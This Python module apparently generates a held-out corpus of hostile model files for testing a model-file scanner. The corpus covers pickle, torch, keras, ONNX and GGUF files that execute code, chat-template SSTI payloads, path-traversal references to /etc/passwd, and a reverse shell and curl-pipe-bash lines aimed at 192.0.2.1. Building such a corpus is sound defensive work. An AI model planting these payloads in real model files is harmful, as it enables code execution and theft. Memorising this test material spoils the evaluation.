"""Round 4, hostile: what a judge from outside would gather, from the public reports of 2023 to 2025.

Written without a look at the scanner. Payloads echo a word or knock at 192.0.2.1 (documentation
addresses); no sample is loaded by anybody.
"""

# ruff: noqa: PLC3002
# fmt: off
# One sample a line: a table is read so.

import base64
import bz2
import copyreg
import gzip
import io
import json
import lzma
import marshal  # noqa: TID251 - written, never read
import os
import pickle  # noqa: TID251 - written, never read
import struct
import subprocess
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np

from held_out import Sample
from held_out.assemble import Rng

SHELL = "echo held-out > /dev/null"
KNOCK = "import socket,os,subprocess\ns=socket.socket();s.settimeout(1)\ntry:\n s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\nexcept OSError:pass\n"
B64 = base64.b64encode(KNOCK.encode()).decode()
STAGED = f"import base64;exec(base64.b64decode('{B64}'))"
MARSHALLED = base64.b64encode(zlib.compress(marshal.dumps(compile("print('held-out')", "<m>", "exec")))).decode()
PACKED = f"import marshal,zlib,base64;exec(marshal.loads(zlib.decompress(base64.b64decode('{MARSHALLED}'))))"
SSTI = "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('echo held-out').read() }}"
SSTI_SPLIT = "{% for m in messages %}{{ m.content }}{% endfor %}{% set x = ''|attr('__cl'~'ass__')|attr('__mro__') %}{{ x[1]|attr('__subcl'~'asses__')() }}"
SSTI_LIPSUM = "{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] }}{% endfor %}{{ lipsum.__globals__['os'].popen('id').read() }}"
MODELING = f"import os\nimport torch\nfrom transformers import PretrainedConfig, PreTrainedModel\n\nos.system({SHELL!r})\n\nclass AcmeConfig(PretrainedConfig):\n    model_type = 'acme'\n\nclass AcmeModel(PreTrainedModel):\n    config_class = AcmeConfig\n"


class Call:
    """Pickles as a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.how = (function, arguments)

    def __reduce__(self) -> Any:
        return self.how


def named(module: str, name: str, *arguments: Any, proto: int = 4) -> bytes:
    """Assemble a pickle that calls `module.name(*arguments)`; the module need not exist."""
    body = pickle.dumps(tuple(arguments), protocol=min(proto, 2))
    body = (body[2:] if proto >= 2 else body)[:-1]
    head = b"" if proto < 2 else b"\x80" + bytes([proto])
    if proto >= 4:
        m, n = module.encode(), name.encode()
        return head + b"\x8c" + bytes([len(m)]) + m + b"\x8c" + bytes([len(n)]) + n + b"\x93" + body + b"R."
    return head + f"c{module}\n{name}\n".encode() + body + b"R."


def inject(host: bytes, code: str, *, first: bool = True) -> bytes:
    """Run code before (or after) a real pickle, as fickling does; keep the object."""
    call = b"c__builtin__\nexec\n(X" + struct.pack("<I", len(code)) + code.encode() + b"tR0"
    if not first:
        return host[:-1] + call + b"."
    at = 2 if host[:1] == b"\x80" else 0
    at += 9 if host[at : at + 1] == b"\x95" else 0
    return host[:2] + call + (host[at:] if host[:1] == b"\x80" else host)


def zipped(files: dict[str, bytes], how: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return out.getvalue()


def tarred(files: dict[str, bytes], mode: str = "w", links: tuple[tuple[str, str, bytes], ...] = ()) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:  # type: ignore[call-overload]
        for name, target, kind in links:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            t.addfile(info)
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def j(**keys: object) -> bytes:
    return json.dumps(keys).encode()


def safetensors(rng: Rng) -> bytes:
    from safetensors.numpy import save

    return save({"w": rng.normal(size=(4, 4)).astype("float32"), "b": np.zeros(4, "float32")})


def torched(what: Any, **how: Any) -> bytes:
    import torch

    out = io.BytesIO()
    torch.save(what, out, **how)
    return out.getvalue()


def calls(rng: Rng) -> Iterator[tuple[str, str, bytes]]:
    evil = Call(os.system, SHELL)
    for proto in range(6):
        yield "pickle calls", f"os_system_p{proto}.pkl", pickle.dumps(evil, protocol=proto)
    yield "pickle calls", "eval_import.pkl", pickle.dumps(Call(eval, f"__import__('os').system({SHELL!r})"), 2)
    yield "pickle calls", "exec_b64.pkl", pickle.dumps(Call(exec, STAGED))
    yield "pickle calls", "exec_marshal.pkl", pickle.dumps(Call(exec, PACKED), 3)
    yield "pickle calls", "in_list.pkl", pickle.dumps([1, 2, {"a": [evil]}])
    yield "pickle calls", "as_key.pkl", pickle.dumps({"weights": rng.normal(size=3), "callback": Call(exec, KNOCK)}, 5)
    yield "pickle calls", "compile_exec.pkl", pickle.dumps(Call(exec, Call(compile, KNOCK, "<x>", "exec")))
    for module, name, *args in [
        ("runpy", "_run_code", KNOCK, {}), ("runpy", "run_path", "/tmp/x.py"), ("pty", "spawn", "/bin/sh"), ("webbrowser", "open", "http://192.0.2.1/x"),
        ("importlib", "import_module", "antigravity"), ("ctypes", "CDLL", "/tmp/x.so"), ("socket", "create_connection", ("192.0.2.1", 4444)),
        ("urllib.request", "urlretrieve", "http://192.0.2.1/x", "/tmp/x"), ("shutil", "rmtree", "/nonexistent"), ("pip", "main", ["install", "nothing-here"]),
        ("timeit", "timeit", "1", "import os"), ("cProfile", "run", "print(1)"), ("pdb", "run", "print(1)"), ("doctest", "debug_script", "print(1)"),
        ("asyncio", "create_subprocess_shell", SHELL), ("logging.config", "listen", 9030), ("torch.hub", "load", "acme/evil", "m"), ("joblib", "load", "/tmp/x.pkl"),
        ("torch", "load", "/tmp/x.pt"), ("dill", "loads", pickle.dumps(evil)), ("pickle", "loads", pickle.dumps(evil)), ("_pickle", "loads", b"cos\nsystem\n(S'id'\ntR."),
        ("numpy.testing._private.utils", "runstring", "print(1)", {}), ("torch.utils._config_module", "ConfigModule.load_config", b""), ("torch.utils.collect_env", "run", "id"),
        ("torch.utils.cpp_extension", "load_inline", "x", "int f(){return 0;}"), ("torch.jit.unsupported_tensor_ops", "execWrapper", "1", {}, {}),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode", None, "1"), ("lib2to3.pgen2.grammar", "Grammar.loads", b""), ("ensurepip", "_run_pip", ["install"]),
        ("_posixsubprocess", "fork_exec", ["/bin/true"]), ("nt", "system", "calc"), ("commands", "getoutput", "id"), ("platform", "popen", "id"), ("uuid", "_get_command_stdout", "id"),
        ("imaplib", "IMAP4_stream", "id"), ("trace", "Trace"), ("smtplib", "SMTP", "192.0.2.1", 25), ("requests.api", "post", "http://192.0.2.1/", {"d": 1}),
        ("pydoc", "pipepager", "x", "cat"), ("distutils.file_util", "write_file", "/tmp/x", ["x"]), ("builtins", "breakpoint"), ("builtins", "open", "/tmp/held-out", "w"),
        ("os", "execv", "/bin/true", ["true"]), ("os", "putenv", "LD_PRELOAD", "/tmp/x.so"), ("posix", "popen", "id"), ("bdb", "Bdb.run", None, "1"), ("test.support.script_helper", "assert_python_ok", "-c", "1"),
        ("http.server", "test"), ("multiprocessing.util", "spawnv_passfds", b"/bin/true", [b"true"], []), ("pandas", "read_pickle", "http://192.0.2.1/x.pkl"), ("numpy", "load", "/tmp/x.npy", None, True),
        ("pandas.core.computation.eval", "eval", "@__builtins__"), ("sys", "settrace", None), ("signal", "raise_signal", 9), ("atexit", "register", print), ("faulthandler", "_sigsegv"),
    ]:
        yield "pickle calls by name", f"{module}.{name}.pkl", named(module, name, *args, proto=int(rng.choice([0, 2, 3, 4])))


def structures(rng: Rng) -> Iterator[tuple[str, str, bytes]]:
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x = rng.normal(size=(30, 3))
    model = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, np.arange(30) % 2)
    benign = pickle.dumps(model, 4)
    kind = "pickle structure"
    yield kind, "fickling_first.pkl", inject(benign, STAGED)
    yield kind, "fickling_last.pkl", inject(benign, KNOCK, first=False)
    yield kind, "fickling_p2.pkl", inject(pickle.dumps(model, 2), f"__import__('os').system({SHELL!r})")
    model.named_steps["logisticregression"].callback_ = Call(os.system, SHELL)
    yield kind, "sklearn_with_attribute.pkl", pickle.dumps(model, 5)
    yield kind, "inst.pkl", b"(S'" + SHELL.encode() + b"'\nios\nsystem\n."
    yield kind, "obj.pkl", b"(cos\nsystem\nS'" + SHELL.encode() + b"'\no."
    yield kind, "nullifai_broken_tail.pkl", named("os", "system", SHELL)[:-1] + b"\xff\xfe\x00broken"
    yield kind, "no_stop.pkl", named("builtins", "exec", KNOCK)[:-1]
    yield kind, "hidden_after_megabyte.pkl", pickle.dumps(bytes(1 << 20)) + named("os", "system", SHELL, proto=2)
    yield kind, "memo_overwritten.pkl", b"\x80\x04\x8c\x08datetime\x94\x8c\x04date\x94\x8c\x02osr\x00\x00\x00\x000\x8c\x06systemr\x01\x00\x00\x000h\x00h\x01\x93\x8c\x02id\x85R."
    yield kind, "getattr_chain.pkl", b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'id'\ntR."
    yield kind, "dotted_walk.pkl", b"\x80\x04\x8c\x0csklearn.base\x8c\x16warnings.sys.modules.x\x93."
    yield kind, "dotted_os.pkl", b"\x80\x04\x8c\x05torch\x8c\x09os.system\x93\x8c\x02id\x85R."
    yield kind, "through_numpy_os.pkl", b"\x80\x04\x8c\x13numpy.lib._utils_im\x8c\x09os.system\x93\x8c\x02id\x85R."
    yield kind, "build_globals.pkl", b"\x80\x02csklearn.linear_model._logistic\nLogisticRegression\n)\x81}X\x05\x00\x00\x00solvercos\nsystem\nsb."
    yield kind, "setstate_as_exec.pkl", b"\x80\x02c__main__\nX\n)\x81}X\x0c\x00\x00\x00__setstate__cos\nsystem\nsbX\x02\x00\x00\x00idb."
    yield kind, "setitem_on_module.pkl", b"\x80\x02csys\nmodules\nX\x02\x00\x00\x00oscsubprocess\nrun\ns."
    yield kind, "newobj_ex.pkl", b"\x80\x04\x8c\nsubprocess\x8c\x05Popen\x93\x8c\x02id\x85}\x8c\x05shell\x88s\x92."
    yield kind, "partial.pkl", b"\x80\x04\x8c\tfunctools\x8c\x07partial\x93\x8c\x02os\x8c\x06system\x93\x8c\x02id\x86R)R."
    yield kind, "methodcaller.pkl", b"\x80\x04\x8c\x08operator\x8c\x0cmethodcaller\x93\x8c\x06system\x8c\x02id\x86R\x8c\tbuiltins\x8c\n__import__\x93\x8c\x02os\x85R\x85R."
    yield kind, "map_then_list.pkl", b"cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nsystem\n(lS'id'\natRtR."
    yield kind, "copyreg_extension.pkl", b"\x80\x02\x82\xf0)R."
    yield kind, "add_extension.pkl", pickle.dumps(Call(copyreg.add_extension, "os", "system", 240), 2)[:-1] + b"0\x82\xf0(X\x02\x00\x00\x00idtR."
    yield kind, "frame_lies.pkl", b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00" + named("os", "system", SHELL)[2:]
    yield kind, "unicode_escape_name.pkl", b"V\\u006fs\nVs\\u0079stem\n\x93(Vid\ntR."
    yield kind, "module_via_reduce_concat.pkl", b"\x80\x04\x8c\x08operator\x8c\x06concat\x93\x8c\x01o\x8c\x01s\x86R\x8c\x06system\x93\x8c\x02id\x85R."
    yield kind, "persistent_id_call.pkl", b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85RQ."
    yield kind, "code_object.pkl", named("types", "FunctionType", b"x", {}, "f")
    yield kind, "bytearray_out_of_band.pkl", b"\x80\x05\x97" + named("os", "system", SHELL, proto=5)[2:]


def tensors(rng: Rng) -> Iterator[tuple[str, str, bytes]]:
    import torch

    kind = "torch"
    weights: dict[str, Any] = {f"layer.{i}.weight": torch.zeros(3, 3) for i in range(4)}
    evil = Call(os.system, SHELL)
    good, bad = torched(weights), torched({**weights, "meta": evil})
    pkl = pickle.dumps(Call(exec, STAGED), 2)
    parts = {n: zipfile.ZipFile(io.BytesIO(good)).read(n) for n in zipfile.ZipFile(io.BytesIO(good)).namelist()}
    yield kind, "reduce_zip.pt", bad
    yield kind, "reduce_legacy.pth", torched({**weights, "x": Call(exec, KNOCK)}, _use_new_zipfile_serialization=False)
    yield kind, "lightning.ckpt", torched({"epoch": 3, "state_dict": weights, "callbacks": {}, "hyper_parameters": {"lr": 0.1, "f": Call(eval, "1")}})
    yield kind, "injected.pt", zipped({**parts, "archive/data.pkl": inject(parts["archive/data.pkl"], STAGED)})
    yield kind, "deflated.pt", zipped({**parts, "archive/data.pkl": pkl}, zipfile.ZIP_DEFLATED)
    yield kind, "extra_member.pt", zipped({**parts, "archive/extra/callback.pkl": pkl})
    yield kind, "double_data.pt", zipped({"archive/data.pkl": parts["archive/data.pkl"]})[:-22] and zipped({**parts, "archive2/data.pkl": pkl})
    yield kind, "storage_is_pickle.pt", zipped({**parts, "archive/data/0": pkl})
    yield kind, "prepended.pt", b"#!/bin/sh\necho held-out\nexit 0\n" + bad
    at = bad.index(b"PK\x01\x02") + 8
    yield kind, "encrypted_flag.pt", bad[:at] + b"\x01" + bad[at + 1 :]
    at = bad.index(b"PK\x01\x02") + 16
    yield kind, "crc_broken.pt", bad[:at] + b"\x00\x00\x00\x00" + bad[at + 4 :]
    yield kind, "central_name_differs.pt", bad[: bad.index(b"PK\x01\x02")].replace(b"data.pkl", b"data.txt", 1) + bad[bad.index(b"PK\x01\x02") :]
    yield kind, "no_central_directory.pt", bad[: bad.index(b"PK\x01\x02")]
    yield kind, "truncated_end.pt", bad[:-30]
    yield kind, "raw_pickle.pt", pkl
    yield kind, "tar_legacy.pt", tarred({"storages": pkl, "tensors": pkl, "pickle": pkl})
    yield kind, "named_safetensors.safetensors", bad
    yield kind, "named_onnx.onnx", bad
    yield kind, "named_png.png", bad
    yield kind, "package.pt", zipped({"p/.data/extern_modules": b"os\n", "p/.data/version": b"6\n", "p/model/model.pkl": pkl, "p/byteorder": b"little"})
    yield kind, "rebuild_from_type.pt", torched({"w": Call(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor, (SHELL,), {})})  # noqa: SLF001
    yield kind, "rebuild_hooks.pt", zipped({**parts, "archive/data.pkl": named("torch._utils", "_rebuild_parameter", 1, True, None, proto=2)[:-1] + b"0cbuiltins\nexec\n(X\x01\x00\x00\x001tR."})
    script = torch.jit.script(torch.nn.Linear(2, 2))
    out = io.BytesIO()
    torch.jit.save(script, out)
    whole = {n: zipfile.ZipFile(io.BytesIO(out.getvalue())).read(n) for n in zipfile.ZipFile(io.BytesIO(out.getvalue())).namelist()}
    yield "torchscript", "constants.pt", zipped({n: (pkl if n.endswith("constants.pkl") else d) for n, d in whole.items()})
    yield "torchscript", "data.pt", zipped({n: (named("os", "system", SHELL, proto=2) if n.endswith("data.pkl") else d) for n, d in whole.items()})

    class Reads(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + torch.from_file("/etc/passwd", False, 8, dtype=torch.uint8).sum()

    class Writes(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            torch.save(x, "/tmp/held-out.bin")
            return x

    for module in (Reads(), Writes()):
        out = io.BytesIO()
        torch.jit.save(torch.jit.script(module), out)
        yield "torchscript", f"{type(module).__name__.lower()}_files.pt", out.getvalue()


def arrays(rng: Rng) -> Iterator[tuple[str, str, bytes]]:
    import cloudpickle
    import dill
    import joblib
    import lz4.frame
    import zstandard

    kind, x = "numpy, joblib, dill", rng.normal(size=(20, 4))
    evil = {"w": x, "hook": Call(os.system, SHELL)}
    for how in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4", 0):
        out = io.BytesIO()
        joblib.dump(evil, out, compress=(how, 3) if how else 0)
        yield kind, f"hook_{how}.joblib", out.getvalue()
    out = io.BytesIO()
    np.save(out, np.array([Call(exec, KNOCK), None], dtype=object), allow_pickle=True)
    yield kind, "objects.npy", out.getvalue()
    packed = io.BytesIO()
    np.savez_compressed(packed, w=x, labels=np.array([Call(os.system, SHELL)], dtype=object))
    yield kind, "objects.npz", packed.getvalue()
    yield kind, "lying_header.npy", out.getvalue().replace(b"'|O'", b"'<f8'"[:4] + b"'")
    yield kind, "pickle_named.npy", pickle.dumps(evil)
    yield kind, "after_array.npy", (lambda b: (np.save(b, x), b.getvalue())[1])(io.BytesIO()) + pickle.dumps(evil)

    def act(*_: object) -> int:
        return os.system(SHELL)

    yield kind, "function.dill", dill.dumps(act, recurse=True)
    yield kind, "lambda.dill", dill.dumps(lambda: eval("1"), byref=False)
    yield kind, "function.cloudpickle.pkl", cloudpickle.dumps(act)

    class Model:
        def predict(self, rows: Any) -> Any:
            return subprocess.check_output(["id"]) or rows

    Model.__module__ = "__main__"
    yield kind, "class.cloudpickle.pkl", cloudpickle.dumps(Model())
    yield kind, "code.marshal", marshal.dumps(compile(KNOCK, "<m>", "exec"))
    yield kind, "model.pyc", b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile(KNOCK, "<m>", "exec"))
    pkl = pickle.dumps(evil)
    for name, data in {"p.pkl.gz": gzip.compress(pkl), "p.pkl.bz2": bz2.compress(pkl), "p.pkl.xz": lzma.compress(pkl), "p.pkl.zst": zstandard.compress(pkl), "p.pkl.lz4": lz4.frame.compress(pkl), "p.lzma": lzma.compress(pkl, lzma.FORMAT_ALONE), "p.pkl.z": zlib.compress(pkl), "streams.csv.gz": gzip.compress(b"a,b\n1,2\n") + gzip.compress(pkl), "tail.json.gz": gzip.compress(b"{}") + pkl, "frames.zst": zstandard.compress(b"{}") + zstandard.compress(pkl), "raw_deflate.pkl": zlib.compress(pkl)[2:-4], "twice.gz": gzip.compress(gzip.compress(pkl))}.items():
        yield "compressed", name, data


def networks(rng: Rng) -> Iterator[tuple[str, str, bytes]]:
    import h5py
    import keras

    kind = "keras"
    model = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(3), keras.layers.Dense(1)])
    with tempfile.TemporaryDirectory() as name:
        model.save(f"{name}/m.keras")
        model.save(f"{name}/m.h5")
        saved, h5 = Path(f"{name}/m.keras").read_bytes(), Path(f"{name}/m.h5").read_bytes()
    parts = {n: zipfile.ZipFile(io.BytesIO(saved)).read(n) for n in zipfile.ZipFile(io.BytesIO(saved)).namelist()}
    code = base64.b64encode(marshal.dumps(compile("lambda x: x", "<l>", "eval").co_consts[0])).decode()
    lambda3 = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}}, "registered_name": None}
    lambda2 = {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None], "function_type": "lambda", "module": "__main__"}}

    def with_layer(layer: Any, **more: bytes) -> bytes:
        config = json.loads(parts["config.json"])
        config["config"]["layers"].append(layer)
        return zipped({**parts, "config.json": json.dumps(config).encode(), **more})

    def with_h5(layer: Any) -> bytes:
        out = io.BytesIO(h5)
        with h5py.File(out, "r+") as f:
            config = json.loads(f.attrs["model_config"])
            config["config"]["layers"].append(layer)
            f.attrs["model_config"] = json.dumps(config)
        return out.getvalue()

    call = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    yield kind, "lambda.keras", with_layer(lambda3)
    yield kind, "lambda.h5", with_h5(lambda2)
    yield kind, "lambda.hdf5", with_h5({"class_name": "TimeDistributed", "config": {"name": "t", "layer": lambda2}})
    yield kind, "nested_lambda.keras", with_layer({"module": "keras.layers", "class_name": "Bidirectional", "config": {"layer": lambda3}, "registered_name": None})
    yield kind, "cve_2025_1550.keras", with_layer({"module": "keras.models", "class_name": "Model", "config": {"layers": [{"module": "subprocess", "class_name": "run", "config": {"name": "id"}, "inbound_nodes": [{"args": ["id"], "kwargs": {}}]}]}, "registered_name": None})
    yield kind, "function_exec.keras", with_layer({"module": "keras.layers", "class_name": "Activation", "config": {"activation": call}, "registered_name": None})
    yield kind, "get_file.keras", with_layer({"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://192.0.2.1/x", "extract": True}, "registered_name": None})
    yield kind, "custom_object.keras", with_layer({"module": "acme.layers", "class_name": "Evil", "config": {}, "registered_name": "acme>Evil"})
    yield kind, "wrapped_torch.keras", with_layer({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": {"class_name": "__torch_module__", "config": {"module": base64.b64encode(pickle.dumps(Call(os.system, SHELL))).decode()}}}, "registered_name": None})
    yield kind, "extra_pickle.keras", zipped({**parts, "assets/tokenizer.pkl": pickle.dumps(Call(os.system, SHELL))})
    yield kind, "slip.keras", zipped({**parts, "../../.bashrc": b"echo held-out\n"})
    yield kind, "lambda_json.json", json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": [lambda2]}, "keras_version": "2.12.0"}).encode()
    yield kind, "vectorization_file.keras", with_layer({"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}, "registered_name": None})
    yield kind, "pickle_in_dataset.h5", (lambda b: (h5py.File(b, "w").create_dataset("model", data=np.frombuffer(pickle.dumps(Call(os.system, SHELL)), "u1")).file.close(), b.getvalue())[1])(io.BytesIO())
    yield kind, "external_link.h5", (lambda b: ((f := h5py.File(b, "w")).__setitem__("weights", h5py.ExternalLink("/etc/passwd", "/")), f.close(), b.getvalue())[2])(io.BytesIO())


def folders(rng: Rng) -> Iterator[tuple[str, str, dict[str, bytes]]]:
    import tensorflow as tf

    weights = safetensors(rng)
    pkl = pickle.dumps(Call(os.system, SHELL))
    base = {"config.json": j(architectures=["BertModel"], model_type="bert", hidden_size=4), "model.safetensors": weights, "README.md": b"---\nlicense: mit\n---\n# Model\n"}
    kind = "hugging face folder"
    auto = {"AutoConfig": "modeling_acme.AcmeConfig", "AutoModel": "modeling_acme.AcmeModel"}
    yield kind, "auto_map", {**base, "config.json": j(model_type="acme", auto_map=auto), "modeling_acme.py": MODELING.encode()}
    yield kind, "auto_map_obfuscated", {**base, "config.json": j(model_type="acme", auto_map=auto), "modeling_acme.py": PACKED.encode()}
    yield kind, "auto_map_elsewhere", {**base, "config.json": j(model_type="acme", auto_map={"AutoModel": "evil/repo--modeling.Evil"})}
    yield kind, "handler", {**base, "handler.py": f"import subprocess\nclass EndpointHandler:\n    def __init__(self, path=''):\n        exec({KNOCK!r})\n".encode()}
    yield kind, "tokenizer_config_ssti", {**base, "tokenizer_config.json": j(tokenizer_class="LlamaTokenizer", chat_template=SSTI_LIPSUM)}
    yield kind, "named_templates_ssti", {**base, "tokenizer_config.json": j(chat_template=[{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": SSTI}])}
    yield kind, "jinja_file_ssti", {**base, "chat_template.jinja": SSTI_SPLIT.encode()}
    yield kind, "processor_template_ssti", {**base, "chat_template.json": j(chat_template=SSTI)}
    yield kind, "pytorch_bin", {"config.json": base["config.json"], "pytorch_model.bin": torched({"w": Call(exec, STAGED)})}
    yield kind, "training_args", {**base, "training_args.bin": torched(Call(os.system, SHELL))}
    yield kind, "optimizer", {**base, "optimizer.pt": torched({"state": {}, "param_groups": [{"lr": Call(eval, "1")}]})}
    yield kind, "rng_state", {**base, "rng_state.pth": torched({"python": Call(subprocess.call, ["id"])})}
    shards = {f"pytorch_model-0000{i}-of-00004.bin": torched({"w": (Call(os.system, SHELL) if i == 3 else 0)}) for i in range(1, 5)}
    yield kind, "one_shard", {"config.json": base["config.json"], **shards}
    yield kind, "index_traversal", {**base, "model.safetensors.index.json": j(metadata={}, weight_map={"w": "../../../../etc/passwd"})}
    yield kind, "adapter_bin", {"adapter_config.json": j(peft_type="LORA", r=8, base_model_name_or_path="acme/base"), "adapter_model.bin": torched({"lora_A": Call(os.system, SHELL)})}
    yield kind, "custom_generate", {**base, "custom_generate/generate.py": b"import os\nos.system('echo held-out')\ndef generate(model, **k):\n    return model\n"}
    yield kind, "requirements_index", {**base, "requirements.txt": b"--index-url http://192.0.2.1/simple\n--trusted-host 192.0.2.1\ntorch\n"}
    yield kind, "setup_py", {**base, "setup.py": f"from setuptools import setup\nimport base64\nexec(base64.b64decode('{B64}'))\nsetup(name='x')\n".encode()}
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": ["!curl -s http://192.0.2.1/x.sh | bash\n"]}
    yield kind, "notebook", {**base, "demo.ipynb": j(cells=[cell], metadata={}, nbformat=4, nbformat_minor=5)}
    yield kind, "shell_script", {**base, "run.sh": b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"}
    yield kind, "site_pth", {**base, "zz.pth": b"import os; os.system('echo held-out')\n"}
    yield kind, "elf", {**base, "libkernels.so": b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQ", 3, 62, 1, 0, 64, 0) + bytes(200)}
    yield kind, "st_modules", {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "acme_module.Evil"}]).encode(), "acme_module.py": MODELING.encode(), **base}
    yield kind, "diffusers_custom", {"model_index.json": j(_class_name=["pipeline", "Evil"], _diffusers_version="0.30.0", unet=["my_unet", "Evil"]), "pipeline.py": MODELING.encode(), "unet/my_unet.py": MODELING.encode()}
    yield kind, "embedding", {**base, "embeddings/style.pt": torched({"string_to_param": Call(os.system, SHELL)})}
    yield kind, "hidden_folder", {**base, ".cache/x/data": pkl}
    yield kind, "git_hook", {**base, ".git/hooks/post-checkout": b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n"}
    yield kind, "secret_in_env", {**base, ".env": b"AWS_ACCESS_KEY_ID=AKIAQYLPMN5HHHFPZAM2\nAWS_SECRET_ACCESS_KEY=" + base64.b64encode(bytes(range(7, 37))) + b"\n"}
    mlmodel = b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    env: {conda: conda.yaml}\n"
    yield "mlflow folder", "python_model", {"MLmodel": mlmodel, "python_model.pkl": pkl, "conda.yaml": b"dependencies:\n- python=3.11\n"}
    yield "mlflow folder", "loader_module", {"MLmodel": b"flavors:\n  python_function:\n    loader_module: evil\n    code: code\n", "code/evil.py": b"import os\nos.system('id')\ndef _load_pyfunc(p):\n    return None\n"}
    yield "mlflow folder", "yaml_tag", {"MLmodel": b"flavors: !!python/object/apply:os.system ['echo held-out']\n"}
    for name, act in {"py_func": lambda x: tf.numpy_function(lambda v: v, [x], tf.float32), "read_file": lambda x: x + tf.cast(tf.strings.length(tf.io.read_file("/etc/passwd")), tf.float32), "write_file": lambda x: (tf.io.write_file("/tmp/held-out", "x"), x)[1], "matching": lambda x: x + tf.cast(tf.size(tf.io.matching_files("/home/*")), tf.float32)}.items():
        module = tf.Module()
        module.f = tf.function(act, input_signature=[tf.TensorSpec([None], tf.float32)], autograph=False)
        with tempfile.TemporaryDirectory() as place:
            tf.saved_model.save(module, place, signatures=None)
            found = {str(p.relative_to(place)): p.read_bytes() for p in Path(place).rglob("*") if p.is_file()}
        yield "saved model", name, found
        if name == "read_file":
            yield "saved model", "frozen", {"frozen.pb": module.f.get_concrete_function().graph.as_graph_def().SerializeToString()}
            yield "saved model", "assets_pickle", {**{n: d for n, d in found.items() if "saved_model" in n}, "assets.extra/x.pkl": pkl}


def formats(rng: Rng) -> Iterator[tuple[str, str, bytes]]:
    from onnx import TensorProto, helper

    x, y = (helper.make_tensor_value_info(n, TensorProto.FLOAT, [1]) for n in "xy")

    def onnx(node: Any, external: str = "", *, functions: Any = (), **keys: Any) -> bytes:
        weight = helper.make_tensor("w", TensorProto.FLOAT, [1], [1.0])
        if external:
            weight.ClearField("float_data")
            weight.data_location = TensorProto.EXTERNAL
            weight.external_data.add(key="location", value=external)
        graph = helper.make_graph([node], "g", [x], [y], [weight])
        return helper.make_model(graph, functions=functions, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("acme.ops", 1)], **keys).SerializeToString()

    add = helper.make_node("Add", ["x", "w"], ["y"])
    kind = "onnx"
    for name, where in {"up": "../../../../etc/passwd", "absolute": "/etc/shadow", "backslash": "..\\..\\secret", "inner": "data/../../x.bin", "proc": "/proc/self/environ"}.items():
        yield kind, f"external_{name}.onnx", onnx(add, where)
    yield kind, "custom_domain.onnx", onnx(helper.make_node("Shell", ["x"], ["y"], domain="acme.ops", command=SHELL))
    yield kind, "python_op.onnx", onnx(helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", module="os", compute="system"))
    inner = helper.make_graph([helper.make_node("Shell", [], ["z"], domain="acme.ops")], "i", [], [helper.make_tensor_value_info("z", TensorProto.FLOAT, [1])])
    yield kind, "in_branch.onnx", onnx(helper.make_node("If", ["x"], ["y"], then_branch=inner, else_branch=inner))
    function = helper.make_function("acme.ops", "F", ["a"], ["b"], [helper.make_node("Run", ["a"], ["b"], domain="evil.ops")], [helper.make_opsetid("evil.ops", 1)])
    yield kind, "in_function.onnx", onnx(helper.make_node("F", ["x"], ["y"], domain="acme.ops"), functions=[function])
    yield kind, "pickle_after.onnx", onnx(add) + pickle.dumps(Call(os.system, SHELL))

    def gguf(*pairs: tuple[str, str], count: int | None = None, tensors: int = 0, tail: bytes = b"") -> bytes:
        body = b"".join(struct.pack("<Q", len(k)) + k.encode() + struct.pack("<IQ", 8, len(v.encode())) + v.encode() for k, v in pairs)
        return b"GGUF" + struct.pack("<IQQ", 3, tensors, len(pairs) if count is None else count) + body + tail

    arch = ("general.architecture", "llama")
    yield "gguf", "ssti.gguf", gguf(arch, ("tokenizer.chat_template", SSTI))
    yield "gguf", "ssti_split.gguf", gguf(arch, ("tokenizer.chat_template", SSTI_SPLIT))
    yield "gguf", "ssti_second.gguf", gguf(arch, ("tokenizer.chat_template", "{{ messages }}"), ("tokenizer.chat_template.tool_use", SSTI_LIPSUM))
